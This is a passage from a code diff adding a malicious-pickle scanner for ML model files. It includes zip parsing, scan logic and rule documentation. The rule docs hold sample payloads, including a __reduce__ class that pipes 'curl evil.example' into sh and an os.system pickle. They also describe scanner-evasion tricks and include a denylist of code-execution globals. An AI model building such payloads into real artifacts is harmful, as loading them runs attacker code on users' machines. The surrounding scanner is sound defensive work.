+    const body2 = extra.subarray(at + 4, Math.min(extra.length, at + 4 + size));
+    if (id === 1) {
+      const out2 = {};
+      let p = 0;
+      for (const field of ["uncompressed", "compressed", "offset"]) {
+        if (!need[field]) continue;
+        if (p + 8 > body2.length) break;
+        out2[field] = u64le(body2, p);
+        p += 8;
+      }
+      return out2;
+    }
+    at += 4 + size;
+  }
+  return {};
+}
+async function attachLocalHeader(source, entry, directory) {
+  const at = entry.localHeaderOffset;
+  if (!Number.isFinite(at) || at < 0 || at + 30 > source.size) {
+    directory.warnings.push(`zip member ${entry.name}: local header offset ${at} is outside the file`);
+    return;
+  }
+  const head = await readRange(source, at, 30);
+  if (!startsWith(head, LOCAL_SIG)) {
+    directory.warnings.push(`zip member ${entry.name}: no local header at offset ${at}`);
+    return;
+  }
+  const nameLength = u16le(head, 26);
+  const extraLength = u16le(head, 28);
+  entry.localName = utf8(await readRange(source, at + 30, nameLength));
+  entry.dataOffset = at + 30 + nameLength + extraLength;
+  if (entry.localName !== entry.name) {
+    directory.tricks.push({
+      member: entry.name,
+      message: `zip member named "${entry.name}" in the central directory but "${entry.localName}" in its local header`
+    });
+  }
+  const localMethod = u16le(head, 8);
+  if (localMethod !== entry.method) {
+    directory.tricks.push({
+      member: entry.name,
+      message: `zip member ${entry.name}: compression method ${entry.method} in the central directory but ${localMethod} locally`
+    });
+  }
+}
+function flagDuplicateNames(directory) {
+  const seen = /* @__PURE__ */ new Set();
+  for (const entry of directory.entries) {
+    if (seen.has(entry.name)) {
+      directory.tricks.push({ member: entry.name, message: `zip holds more than one member named "${entry.name}"` });
+    }
+    seen.add(entry.name);
+  }
+}
+async function walkLocalHeaders(source, start2, options) {
+  const directory = { entries: [], archiveStart: start2, fromCentralDirectory: false, warnings: [], tricks: [] };
+  let at = start2;
+  while (at + 30 <= source.size) {
+    const head = await readRange(source, at, 30);
+    if (!startsWith(head, LOCAL_SIG)) break;
+    if (directory.entries.length >= options.maxEntries) {
+      directory.warnings.push(`zip has more than ${options.maxEntries} entries; the rest were not inspected`);
+      break;
+    }
+    const nameLength = u16le(head, 26);
+    const extraLength = u16le(head, 28);
+    const name2 = utf8(await readRange(source, at + 30, nameLength));
+    const extra = await readRange(source, at + 30 + nameLength, extraLength);
+    let compressedSize = u32le(head, 18);
+    let uncompressedSize = u32le(head, 22);
+    const wide = readZip64Extra(extra, {
+      uncompressed: uncompressedSize === 4294967295,
+      compressed: compressedSize === 4294967295,
+      offset: false
+    });
+    compressedSize = wide.compressed ?? compressedSize;
+    uncompressedSize = wide.uncompressed ?? uncompressedSize;
+    const dataOffset = at + 30 + nameLength + extraLength;
+    const hasDescriptor = (u16le(head, 6) & 8) !== 0;
+    let next;
+    if (hasDescriptor && compressedSize === 0) {
+      const end = await findNextSignature(source, dataOffset);
+      compressedSize = end - dataOffset;
+      next = end;
+      if (startsWith(await readRange(source, end, 4), DESCRIPTOR_SIG)) next = end + 16;
+    } else {
+      next = dataOffset + compressedSize;
+    }
+    if (dataOffset + compressedSize > source.size) {
+      directory.warnings.push(`zip member ${name2} is truncated`);
+      compressedSize = Math.max(0, source.size - dataOffset);
+    }
+    directory.entries.push({
+      name: name2,
+      localName: name2,
+      method: u16le(head, 8),
+      compressedSize,
+      uncompressedSize,
+      localHeaderOffset: at,
+      dataOffset
+    });
+    if (!(next > at)) break;
+    at = next;
+  }
+  if (directory.entries.length > 0) {
+    directory.warnings.push("zip end-of-central-directory record missing or unusable; members found by walking local headers");
+  }
+  flagDuplicateNames(directory);
+  return directory;
+}
+async function findNextSignature(source, from) {
+  for (let at = from; at < source.size; at += SCAN_CHUNK - 3) {
+    const chunk = await readRange(source, at, SCAN_CHUNK);
+    const hits = [LOCAL_SIG, CENTRAL_SIG, DESCRIPTOR_SIG].map((sig) => indexOf(chunk, sig)).filter((hit) => hit >= 0);
+    if (hits.length > 0) return at + Math.min(...hits);
+    if (chunk.length < SCAN_CHUNK) break;
+  }
+  return source.size;
+}
+
+// src/artifacts/rules.ts
+var COMPLIANCE = [
+  { framework: "OWASP Top 10 2021", control: "A08:2021 Software and Data Integrity Failures" },
+  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
+  { framework: "NIST SP 800-53 Rev. 5", control: "SI-7 Software, Firmware, and Information Integrity" },
+  { framework: "NIST SP 800-218 (SSDF)", control: "PW.4.1 Acquire and maintain well-secured components" },
+  { framework: "PCI DSS 4.0", control: "6.2.4 Software engineering techniques prevent common attacks" }
+];
+var REFERENCES = [
+  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
+  { title: "OWASP A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
+  { title: "Python docs: pickle, Restricting Globals", url: "https://docs.python.org/3/library/pickle.html#restricting-globals" },
+  { title: "PyTorch docs: torch.load and weights_only", url: "https://pytorch.org/docs/stable/generated/torch.load.html" },
+  { title: "Hugging Face: Pickle scanning", url: "https://huggingface.co/docs/hub/security-pickle" },
+  { title: "safetensors", url: "https://github.com/huggingface/safetensors" }
+];
+var SAFE_EXAMPLE = [
+  "# Load tensors only: weights_only refuses every global outside PyTorch's allowlist",
+  'state = torch.load("model.pt", weights_only=True)',
+  "",
+  "# Better: a format that cannot run code",
+  "from safetensors.torch import load_file",
+  'state = load_file("model.safetensors")'
+].join("\n");
+var COMMON_FAQ = [
+  {
+    question: "Does Pathfinder load or unpickle the file?",
+    answer: "No. It reads the bytes and interprets pickle opcodes symbolically; nothing is imported or executed, and tensor data is skipped without being read."
+  },
+  {
+    question: "The file is named .pt/.bin/.npy; why is it treated as a zip, tar or pickle?",
+    answer: "Loaders decide by content, not by name, so Pathfinder does too. The extension is only a hint for which files to look at."
+  }
+];
+var SCOPE = "Raw pickles (protocols 0-5, stacked streams), zip archives read through our own central-directory parser (zip64, prepended data, missing end record, name mismatches, every member that parses as a pickle), PyTorch zip checkpoints (`*/data.pkl`, tensor members skipped), legacy PyTorch stacked and tar checkpoints, .npy/.npz object arrays, joblib files (zlib/gzip/bz2/xz/lzma compression, inline array bytes skipped by declared size, object-array pickles), and gzip/bz2/xz/lzma-wrapped pickles. Decompression is bounded by `maxDecompressedBytes`. 7z, RAR, zstd and LZ4 archives are reported as uninspectable.";
+function artifactRule(meta) {
+  return {
+    id: meta.id,
+    name: meta.name,
+    language: "artifact",
+    severity: meta.severity,
+    confidence: meta.confidence,
+    precision: meta.precision,
+    cwe: ["CWE-502"],
+    owasp: ["A08:2021"],
+    compliance: COMPLIANCE,
+    tags: ["pickle", "deserialization", "artifact", "ml", "supply-chain", ...meta.tags],
+    bundles: ["artifacts"],
+    banditIds: [],
+    similar: meta.similar,
+    docs: {
+      ...meta.docs,
+      safeExample: meta.docs.safeExample ?? SAFE_EXAMPLE,
+      detectionScope: SCOPE,
+      references: REFERENCES,
+      faq: [...meta.docs.faq ?? [], ...COMMON_FAQ]
+    }
+  };
+}
+var PICKLE_ARTIFACT_DANGEROUS_CALL = artifactRule({
+  id: "PICKLE-ARTIFACT-001",
+  name: "Pickle Artifact Calls a Dangerous Global",
+  severity: "critical",
+  confidence: "high",
+  precision: "very-high",
+  tags: ["code-execution"],
+  similar: ["PICKLE-ARTIFACT-002", "PICKLE-ARTIFACT-003"],
+  docs: {
+    summary: "A pickle inside this file calls a function that can run code, spawn processes or touch files when it is loaded.",
+    description: "Unpickling executes the opcodes in the file. `REDUCE`, `NEWOBJ`, `OBJ`, `INST` and `BUILD` call whatever global the pickle imported, with arguments the pickle chose. This file calls a global on the denylist (for example `os.system`, `subprocess.Popen`, `builtins.exec`, `builtins.eval`, `runpy._run_code`), so loading it with `pickle.load`, `torch.load(weights_only=False)`, `joblib.load` or `np.load(allow_pickle=True)` runs that call.",
+    securityImplications: "Arbitrary code execution with the privileges of whoever loads the file: credential theft, lateral movement from training or inference hosts, tampered models. This is the classic malicious-model supply-chain attack.",
+    howToFix: "Do not load the file. Obtain the artifact from a trusted source and verify it (hash or signature). Convert models to safetensors or ONNX, load PyTorch checkpoints with `weights_only=True`, and keep `allow_pickle=False` for NumPy.",
+    fixHint: "Do not load this file; re-export it as safetensors, or load with torch.load(..., weights_only=True).",
+    vulnerableExample: [
+      "class Payload:",
+      "    def __reduce__(self):",
+      '        return (os.system, ("curl evil.example | sh",))',
+      "",
+      'torch.save({"model": Payload()}, "model.pt")   # loading model.pt runs the command'
+    ].join("\n"),
+    faq: [
+      {
+        question: "Could the call be harmless?",
+        answer: "Only if the arguments are; the policy flags the capability. A legitimate model never needs to call os.system or exec."
+      }
+    ]
+  }
+});
+var PICKLE_ARTIFACT_DANGEROUS_IMPORT = artifactRule({
+  id: "PICKLE-ARTIFACT-002",
+  name: "Pickle Artifact Imports a Dangerous Global",
+  severity: "high",
+  confidence: "medium",
+  precision: "high",
+  tags: ["code-execution"],
+  similar: ["PICKLE-ARTIFACT-001"],
+  docs: {
+    summary: "A pickle inside this file imports a dangerous global without visibly calling it.",
+    description: "`GLOBAL`/`STACK_GLOBAL` import any attribute of any module while loading. A denylisted global (for example `os.system` or `builtins.getattr`) is referenced here although no direct call was seen; it may be called indirectly (through a memo, a container or a later `BUILD`), which symbolic analysis cannot always follow.",
+    securityImplications: "Importing a module can itself run code (module import side effects), and an imported callable is one opcode away from being invoked. Treat the file as untrusted.",
+    howToFix: "Do not load the file from untrusted sources. Re-create the artifact from trusted code, or load it with a restricted unpickler (`find_class` allowlist) or `torch.load(weights_only=True)`.",
+    fixHint: "Treat the file as untrusted; load it only with an allowlisting unpickler.",
+    vulnerableExample: ["# protocol 0 pickle that imports os.system", "cos\\nsystem\\n(S'id'\\ntR."].join("\n")
+  }
+});
+var PICKLE_ARTIFACT_DYNAMIC_GLOBAL = artifactRule({
+  id: "PICKLE-ARTIFACT-003",
+  name: "Pickle Artifact Uses an Unresolvable or Self-Modifying Global",
+  severity: "critical",
+  confidence: "medium",
+  precision: "high",
+  tags: ["obfuscation", "code-execution"],
+  similar: ["PICKLE-ARTIFACT-001"],
+  docs: {
+    summary: "A pickle builds the name of the global it imports at load time, uses the copyreg extension registry, or rewrites a module.",
+    description: "`STACK_GLOBAL` with operands that are not constant strings (for example the result of a call), `EXT1/EXT2/EXT4` codes resolved through the process's copyreg registry, and `BUILD` applied to a module or function object (overwriting its attributes) all hide what will really run. Scanners that match names cannot see through them, which is why attackers use them.",
+    securityImplications: "The real target cannot be known statically; legitimate serializers never produce these shapes in model files, so they indicate an attempt to evade scanning and execute code.",
+    howToFix: "Do not load the file. Regenerate the artifact from trusted code and store weights in safetensors.",
+    fixHint: "Obfuscated pickle: do not load it.",
+    vulnerableExample: [
+      "# STACK_GLOBAL whose module name is computed by a call",
+      "\\x80\\x04 ... builtins getattr ... REDUCE ... STACK_GLOBAL ... REDUCE"
+    ].join("\n")
+  }
+});
+var PICKLE_ARTIFACT_UNKNOWN_GLOBAL = artifactRule({
+  id: "PICKLE-ARTIFACT-004",
+  name: "Pickle Artifact References a Global Outside the Allowlist",
+  severity: "medium",
+  confidence: "medium",
+  precision: "medium",
+  tags: ["allowlist", "policy"],
+  similar: ["PICKLE-ARTIFACT-002"],
+  docs: {
+    summary: "In allowlist mode, a pickle references a global that is neither built in to the allowlist nor allowed by configuration.",
+    description: "The allowlist policy accepts only globals a tensor/array checkpoint needs (PyTorch's weights-only set, NumPy array reconstruction, plain containers) plus `--pickle-allow` entries. Anything else is reported so that a reviewer decides whether it is expected.",
+    securityImplications: "An unexpected class can run code through its `__reduce__`, `__setstate__` or constructor. Unknown is not proven malicious, but it widens what loading the file can do.",
+    howToFix: "If the class is expected and trusted, allow it (`--pickle-allow module.Name`, or `module.*`). Otherwise remove it from the artifact, e.g. save only a `state_dict` of tensors.",
+    fixHint: "Review the global; allow it with --pickle-allow if trusted, or save only tensors.",
+    vulnerableExample: ['torch.save(MyModel(), "model.pt")   # pickles mypackage.models.MyModel'].join("\n"),
+    safeExample: ['torch.save(model.state_dict(), "model.pt")   # tensors and OrderedDict only'].join("\n")
+  }
+});
+var PICKLE_ARTIFACT_MALFORMED = artifactRule({
+  id: "PICKLE-ARTIFACT-005",
+  name: "Malformed Pickle After Importing Globals",
+  severity: "high",
+  confidence: "medium",
+  precision: "medium",
+  tags: ["evasion"],
+  similar: ["PICKLE-ARTIFACT-006"],
+  docs: {
+    summary: "A pickle imports globals and then breaks (bad opcode, truncated data, stack misuse).",
+    description: "Python's unpickler executes opcodes as it reads them, so everything before the error has already run when the load fails. Some scanners give up on a parse error and report the file as clean; attackers exploit that by appending garbage after the payload (the 'broken pickle' trick).",
+    securityImplications: "The payload before the break executes on load even though the load ultimately raises an exception.",
+    howToFix: "Do not load the file. A legitimate serializer never writes a malformed stream.",
+    fixHint: "Broken pickle with globals: do not load it.",
+    vulnerableExample: ["cos\\nsystem\\n(S'id'\\ntR\\xff\\xff  # payload, then invalid opcodes"].join("\n")
+  }
+});
+var PICKLE_ARTIFACT_CONTAINER_TRICK = artifactRule({
+  id: "PICKLE-ARTIFACT-006",
+  name: "Artifact Container Is Inconsistent",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  tags: ["evasion", "zip"],
+  similar: ["PICKLE-ARTIFACT-005"],
+  docs: {
+    summary: "The archive's own metadata disagrees with itself (zip central vs local names or methods, duplicate member names).",
+    description: "Zip readers differ in which header they trust: some use the central directory, some stream local headers, and duplicate names resolve to the first or the last entry. A member named `data.pkl` in one place and something harmless in another lets a malicious pickle pass a scanner that reads one view while the loader reads the other.",
+    securityImplications: "A benign-looking archive can carry a payload that only some readers see; it indicates deliberate scanner evasion.",
+    howToFix: "Reject the file and re-create the archive with a standard tool (e.g. `torch.save`, `zipfile`).",
+    fixHint: "Inconsistent archive metadata: re-create the archive from trusted sources.",
+    vulnerableExample: [
+      "# central directory: archive/data.pkl   local header: archive/version",
+      "# both point at a pickle that calls os.system"
+    ].join("\n")
+  }
+});
+var PICKLE_ARTIFACT_UNINSPECTABLE = artifactRule({
+  id: "PICKLE-ARTIFACT-007",
+  name: "Artifact Archive Cannot Be Inspected",
+  severity: "medium",
+  confidence: "low",
+  precision: "low",
+  tags: ["coverage"],
+  similar: [],
+  docs: {
+    summary: "The file is an archive format (7z, RAR, zstd, LZ4, or an unsupported zip method) that Pathfinder cannot look inside.",
+    description: "Models are sometimes shipped inside archives that are extracted before loading. Pathfinder reads zip, tar, gzip, bzip2, xz and lzma itself; for other formats it cannot tell whether a pickle is inside, so it says so instead of reporting the file as clean.",
+    securityImplications: "Contents are unverified: a malicious pickle inside would not be detected.",
+    howToFix: "Extract the archive and scan the extracted files, or ship the artifact as zip/tar or safetensors.",
+    fixHint: "Extract the archive and scan its contents.",
+    vulnerableExample: ["model.7z  ->  model.pkl (not inspected)"].join("\n"),
+    safeExample: ["pathfinder scan extracted/   # scan the unpacked files instead"].join("\n")
+  }
+});
+var ARTIFACT_RULES = [
+  PICKLE_ARTIFACT_DANGEROUS_CALL,
+  PICKLE_ARTIFACT_DANGEROUS_IMPORT,
+  PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
+  PICKLE_ARTIFACT_MALFORMED,
+  PICKLE_ARTIFACT_CONTAINER_TRICK,
+  PICKLE_ARTIFACT_UNINSPECTABLE
+];
+var RULE_BY_KIND = {
+  "dangerous-call": PICKLE_ARTIFACT_DANGEROUS_CALL,
+  "dangerous-import": PICKLE_ARTIFACT_DANGEROUS_IMPORT,
+  "dynamic-global": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  "extension-code": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  "module-mutation": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  "unknown-global": PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
+  malformed: PICKLE_ARTIFACT_MALFORMED,
+  "container-mismatch": PICKLE_ARTIFACT_CONTAINER_TRICK,
+  uninspectable: PICKLE_ARTIFACT_UNINSPECTABLE
+};
+function ruleForIssue(issue) {
+  if (issue.kind !== "nested-pickle") return RULE_BY_KIND[issue.kind];
+  if (issue.severity === "critical") return PICKLE_ARTIFACT_DANGEROUS_CALL;
+  if (issue.severity === "high") return PICKLE_ARTIFACT_DANGEROUS_IMPORT;
+  return PICKLE_ARTIFACT_UNKNOWN_GLOBAL;
+}
+
+// src/artifacts/scan.ts
+var HEAD_BYTES = 64 * 1024 + 1;
+var MAX_ZIP_ENTRIES = 1e5;
+var MAX_TAR_ENTRIES = 1e5;
+var MAX_STACKED_PICKLES = 64;
+var MAX_WORK_ITEMS = 1e4;
+var TORCH_PICKLE = /(^|\/)data\.pkl$/;
+var TORCH_TENSOR = /(^|\/)data\/\d+$/;
+var LEGACY_TAR_MEMBERS = /* @__PURE__ */ new Set(["sys_info", "pickle", "storages", "tensors"]);
+async function scanArtifact(source, relPath, options = {}) {
+  const scan = new ArtifactScan(relPath, {
+    ...DEFAULT_PICKLE_OPTIONS,
+    ...options,
+    limits: { ...DEFAULT_PICKLE_OPTIONS.limits, ...options.limits }
+  });
+  await scan.run(source);
+  return scan.result();
+}
+var ArtifactScan = class {
+  constructor(relPath, options) {
+    this.relPath = relPath;
+    this.options = options;
+    this.budget = options.limits.maxDecompressedBytes;
+  }
+  relPath;
+  options;
+  layout = [];
+  analyses = [];
+  errors = [];
+  issues = [];
+  queue = [];
+  traits = /* @__PURE__ */ new Set();
+  baseKind = "unknown";
+  budget;
+  budgetWarned = false;
+  async run(source) {
+    this.queue.push({ source, origin: 0, depth: 0 });
+    let processed = 0;
+    while (this.queue.length > 0) {
+      const item = this.queue.shift();
+      if (++processed > MAX_WORK_ITEMS) {
+        this.warn(`more than ${MAX_WORK_ITEMS} nested pieces; the rest were not inspected`);
+        break;
+      }
+      try {
+        await this.inspect(item);
+      } catch (error) {
+        this.warn(`could not inspect: ${error instanceof Error ? error.message : String(error)}`, item.member);
+      }
+    }
+  }
+  result() {
+    return {
+      kind: this.kind(),
+      layout: this.layout,
+      analyses: this.analyses,
+      findings: this.findings(),
+      errors: this.errors
+    };
+  }
+  kind() {
+    if (this.traits.has("torch-legacy")) return "torch-legacy";
+    if (this.traits.has("joblib")) return "joblib";
+    if (this.baseKind === "zip" && this.traits.has("torch-zip")) return "torch-zip";
+    if (this.baseKind === "zip" && this.traits.has("npz")) return "npz";
+    if (this.baseKind === "pickle" && this.traits.has("zip")) return "pickle+zip";
+    return this.baseKind;
+  }
+  warn(message15, member) {
+    this.errors.push({
+      file: this.relPath,
+      kind: "artifact",
+      message: member ? `${member}: ${message15}` : message15,
+      level: "warning"
+    });
+  }
+  addIssue(issue, member, baseOffset, from) {
+    this.issues.push({ issue, ...member !== void 0 ? { member } : {}, baseOffset, ...from ? { from } : {} });
+  }
+  async inspect(item) {
+    if (item.depth > this.options.limits.maxNesting) {
+      this.warn(`containers nested deeper than ${this.options.limits.maxNesting}; not inspected`, item.member);
+      return;
+    }
+    const head = await readRange(item.source, 0, HEAD_BYTES);
+    if (head.length === 0) {
+      if (item.depth === 0) this.warn("file is empty");
+      return;
+    }
+    const format = sniffFormat(head);
+    const pickleLike = format === "unknown" && (item.expectPickle === true || looksLikePickle(head));
+    if (item.depth === 0) this.baseKind = pickleLike ? "pickle" : format;
+    switch (format) {
+      case "npy":
+        return this.inspectNpy(item);
+      case "zip":
+        await this.inspectZip(item, 0);
+        return;
+      case "tar":
+        return this.inspectTar(item);
+      case "gzip":
+      case "zlib":
+      case "bz2":
+      case "xz":
+      case "lzma":
+        return this.inspectCompressed(item, format, item.source);
+      case "joblib-zfile":
+        this.traits.add("joblib");
+        return this.inspectCompressed(item, "zlib", sliceSource(item.source, 21, item.source.size - 21));
+      case "7z":
+      case "rar":
+      case "zstd":
+      case "lz4":
+        return this.uninspectable(item, format);
+      case "unknown":
+        if (pickleLike) return this.inspectPickles(item);
+        if (await this.inspectZip(item, -1)) return;
+        if (item.depth === 0) this.warn("content is not a pickle or a known container; not inspected");
+    }
+  }
+  uninspectable(item, format) {
+    this.layout.push({
+      name: item.member ?? `[${format}]`,
+      container: format,
+      offset: item.origin,
+      size: item.source.size,
+      compressedSize: item.source.size,
+      method: format,
+      role: "other"
+    });
+    this.addIssue(
+      {
+        kind: "uninspectable",
+        severity: "medium",
+        message: `${format} archive: Pathfinder cannot inspect its contents, which may include pickles`
+      },
+      item.member,
+      item.origin
+    );
+  }
+  // ---- compression -------------------------------------------------------------------------------
+  async decompressBounded(format, input, member, want) {
+    const result2 = await decompress(format, input, {
+      limit: Math.max(0, this.budget),
+      ...want !== void 0 ? { want } : {}
+    });
+    if (want === void 0 || result2.limitReached) this.budget -= result2.bytes.length;
+    if (result2.limitReached && !this.budgetWarned) {
+      this.budgetWarned = true;
+      this.warn(
+        `decompression stopped at the ${this.options.limits.maxDecompressedBytes}-byte limit (possible zip bomb); the rest was not inspected`,
+        member
+      );
+    }
+    if (result2.error) this.warn(`${format} data is corrupt or truncated: ${result2.error}`, member);
+    return result2;
+  }
+  async inspectCompressed(item, format, input) {
+    const label = `${item.member ?? ""}[${format}]`;
+    if (this.budget <= 0) {
+      this.warn("decompression limit already reached; not inspected", label);
+      return;
+    }
+    const result2 = await this.decompressBounded(format, input, label);
+    const pickle = looksLikePickle(result2.bytes.subarray(0, HEAD_BYTES));
+    this.layout.push({
+      name: label,
+      container: format,
+      offset: item.origin,
+      size: result2.bytes.length,
+      compressedSize: input.size,
+      method: format,
+      role: pickle ? "pickle" : "other"
+    });
+    if (result2.bytes.length === 0) return;
+    this.queue.push({ source: memorySource(result2.bytes), member: label, origin: 0, depth: item.depth + 1 });
+  }
+  // ---- .npy --------------------------------------------------------------------------------------
+  async inspectNpy(item) {
+    const parsed = await readNpyHeader(item.source);
+    if (!parsed.ok) {
+      this.warn(parsed.error, item.member);
+      return;
+    }
+    const { header } = parsed;
+    const bodySize = item.source.size - header.dataOffset;
+    this.layout.push({
+      name: `${item.member ?? ""}[npy ${header.descr} ${JSON.stringify(header.shape)}]`,
+      container: "npy",
+      offset: item.origin + header.dataOffset,
+      size: bodySize,
+      compressedSize: bodySize,
+      method: "raw",
+      role: header.hasObject ? "pickle" : "tensor-data"
+    });
+    if (!header.hasObject) return;
+    this.queue.push({
+      source: sliceSource(item.source, header.dataOffset, bodySize),
+      ...item.member !== void 0 ? { member: item.member } : {},
+      origin: item.origin + header.dataOffset,
+      depth: item.depth + 1,
+      expectPickle: true
+    });
+  }
+  // ---- zip ---------------------------------------------------------------------------------------
+  /** `start` >= 0: the caller saw a local header there; -1: only look for an end record. */
+  async inspectZip(item, start2) {
+    let directory = await readZipDirectory(item.source, { maxEntries: MAX_ZIP_ENTRIES });
+    if (!directory && start2 >= 0) directory = await walkLocalHeaders(item.source, start2, { maxEntries: MAX_ZIP_ENTRIES });
+    if (!directory || directory.entries.length === 0 && !directory.fromCentralDirectory) return false;
+    if (item.depth === 0 && this.baseKind === "unknown") this.baseKind = "zip";
+    this.traits.add("zip");
+    if (directory.archiveStart > 0 && this.baseKind !== "pickle") {
+      this.warn(`zip archive starts at offset ${directory.archiveStart}: data was prepended to it`, item.member);
+    }
+    for (const warning of directory.warnings) this.warn(warning, item.member);
+    for (const trick of directory.tricks) {
+      this.addIssue(
+        { kind: "container-mismatch", severity: "high", message: trick.message },
+        join2(item.member, trick.member),
+        0
+      );
+    }
+    const isTorch = directory.entries.some((e) => TORCH_PICKLE.test(e.name));
+    if (isTorch) this.traits.add("torch-zip");
+    if (directory.entries.length > 0 && directory.entries.every((e) => e.name.endsWith(".npy"))) this.traits.add("npz");
+    for (const entry of directory.entries) {
+      const member = join2(item.member, entry.name);
+      const method = entry.method === METHOD_STORED ? "stored" : entry.method === METHOD_DEFLATE ? "deflate" : entry.method === 12 ? "bz2" : `method ${entry.method}`;
+      const row = {
+        name: member,
+        container: "zip",
+        offset: entry.dataOffset,
+        size: entry.uncompressedSize,
+        compressedSize: entry.compressedSize,
+        method,
+        role: "other"
+      };
+      this.layout.push(row);
+      if (entry.dataOffset < 0) continue;
+      if (isTorch && TORCH_TENSOR.test(entry.name)) {
+        row.role = "tensor-data";
+        continue;
+      }
+      const compressed = sliceSource(item.source, entry.dataOffset, entry.compressedSize);
+      let head;
+      let codec = null;
+      if (entry.method === METHOD_STORED) {
+        head = await readRange(compressed, 0, HEAD_BYTES);
+      } else if (entry.method === METHOD_DEFLATE || entry.method === 12) {
+        codec = entry.method === METHOD_DEFLATE ? "deflate-raw" : "bz2";
+        head = (await this.decompressBounded(codec, compressed, member, HEAD_BYTES)).bytes;
+      } else {
+        this.addIssue(
+          {
+            kind: "uninspectable",
+            severity: "medium",
+            message: `zip member ${entry.name} uses compression method ${entry.method}, which Pathfinder cannot decode`
+          },
+          member,
+          0
+        );
+        continue;
+      }
+      const expectPickle = TORCH_PICKLE.test(entry.name) || /\.(pkl|pickle)$/i.test(entry.name);
+      const pickleLike = looksLikePickle(head);
+      const nested = sniffFormat(head) !== "unknown";
+      if (pickleLike || expectPickle) row.role = "pickle";
+      if (!pickleLike && !expectPickle && !nested) continue;
+      let memberSource = compressed;
+      if (codec) {
+        if (this.budget <= 0) {
+          this.warn("decompression limit reached; member not inspected", member);
+          continue;
+        }
+        const full = await this.decompressBounded(codec, compressed, member);
+        row.size = full.bytes.length;
+        memberSource = memorySource(full.bytes);
+      }
+      this.queue.push({ source: memberSource, member, origin: 0, depth: item.depth + 1, expectPickle });
+    }
+    return true;
+  }
+  // ---- tar (legacy PyTorch) ----------------------------------------------------------------------
+  async inspectTar(item) {
+    const listing = await listTar(item.source, MAX_TAR_ENTRIES);
+    for (const warning of listing.warnings) this.warn(warning, item.member);
+    const files = listing.entries.filter((e) => e.type === "0" || e.type === "7");
+    const legacy = files.some((e) => e.name === "pickle") && files.some((e) => e.name === "sys_info");
+    if (legacy) this.traits.add("torch-legacy");
+    for (const entry of files) {
+      const member = join2(item.member, entry.name);
+      const source = sliceSource(item.source, entry.dataOffset, entry.size);
+      const row = {
+        name: member,
+        container: "tar",
+        offset: entry.dataOffset,
+        size: entry.size,
+        compressedSize: entry.size,
+        method: "stored",
+        role: "other"
+      };
+      this.layout.push(row);
+      if (legacy && (entry.name === "storages" || entry.name === "tensors")) {
+        row.role = "pickle";
+        const located = entry.name === "storages" ? await locateLegacyStorages(source, this.options.limits.maxOpcodes) : await locateLegacyTensors(source, this.options.limits.maxOpcodes);
+        await this.analyseRanges(source, member, located);
+        continue;
+      }
+      const head = await readRange(source, 0, HEAD_BYTES);
+      const expectPickle = legacy && LEGACY_TAR_MEMBERS.has(entry.name);
+      const pickleLike = looksLikePickle(head);
+      if (pickleLike || expectPickle) row.role = "pickle";
+      if (pickleLike || expectPickle || sniffFormat(head) !== "unknown") {
+        this.queue.push({ source, member, origin: 0, depth: item.depth + 1, expectPickle });
+      }
+    }
+  }
+  async analyseRanges(source, member, located) {
+    for (const warning of located.warnings) this.warn(warning, member);
+    for (const range of located.pickles) {
+      const bytes = await this.readPickleBytes(source, range.start, range.end - range.start, member);
+      this.record(analyzePickle(bytes, this.options), member, range.start);
+    }
+  }
+  // ---- pickles -----------------------------------------------------------------------------------
+  /** Analyses the pickle at the start of the item and every pickle stacked after it, then what follows. */
+  async inspectPickles(item) {
+    const source = item.source;
+    let position = 0;
+    let legacy = false;
+    for (let count = 0; count < MAX_STACKED_PICKLES && position < source.size; count++) {
+      if (count > 0 && !looksLikePickle(await readRange(source, position, HEAD_BYTES))) break;
+      const end = await this.analysePickleAt(item, position);
+      if (count === 0 && isLegacyTorchMagic(await readRange(source, 0, 32))) {
+        legacy = true;
+        this.traits.add("torch-legacy");
+      }
+      if (end === null || end <= position) return;
+      position = end;
+      if (legacy && count + 1 === LEGACY_STACKED_PICKLES) {
+        this.layout.push({
+          name: `${item.member ?? ""}[storage data]`,
+          container: "torch-legacy",
+          offset: item.origin + position,
+          size: source.size - position,
+          compressedSize: source.size - position,
+          method: "raw",
+          role: "tensor-data"
+        });
+        return;
+      }
+    }
+    if (position >= source.size) return;
+    await this.inspectTail(item, position);
+  }
+  /** Bytes after the last pickle: a zip (polyglot) or another container; otherwise just reported. */
+  async inspectTail(item, position) {
+    const head = await readRange(item.source, position, HEAD_BYTES);
+    if (await this.inspectZip(item, startsWith(head, ascii("PK")) ? position : -1)) return;
+    if (sniffFormat(head) !== "unknown") {
+      this.queue.push({
+        source: sliceSource(item.source, position, item.source.size - position),
+        ...item.member !== void 0 ? { member: item.member } : {},
+        origin: item.origin + position,
+        depth: item.depth + 1
+      });
+      return;
+    }
+    this.warn(`${item.source.size - position} bytes after the pickle at offset ${item.origin + position} were not inspected`, item.member);
+  }
+  /** Analyses one pickle stream at `position`; returns the offset just past it, or null if it did not end. */
+  async analysePickleAt(item, position) {
+    const end = await this.analyseStreamAt(item, position);
+    if (item.depth === 0 || position > 0) {
+      const size = (end ?? item.source.size) - position;
+      this.layout.push({
+        name: `${item.member ?? ""}[pickle @${item.origin + position}]`,
+        container: "pickle",
+        offset: item.origin + position,
+        size,
+        compressedSize: size,
+        method: "raw",
+        role: "pickle"
+      });
+    }
+    return end;
+  }
+  async analyseStreamAt(item, position) {
+    const { source, member } = item;
+    const maxOpcodes = this.options.limits.maxOpcodes;
+    const framing = await locateJoblibArrays(source, position, maxOpcodes);
+    if (framing.arrays.length > 0 && framing.end !== null) {
+      this.traits.add("joblib");
+      await this.analyseJoblib(item, position, framing.end, framing.arrays);
+      return framing.end;
+    }
+    if (framing.arrays.length > 0 && framing.error) {
+      this.warn(`joblib array data could not be located (${framing.error.message}); analysing the stream as is`, member);
+    }
+    const length = framing.end !== null ? framing.end - position : source.size - position;
+    const bytes = await this.readPickleBytes(source, position, length, member);
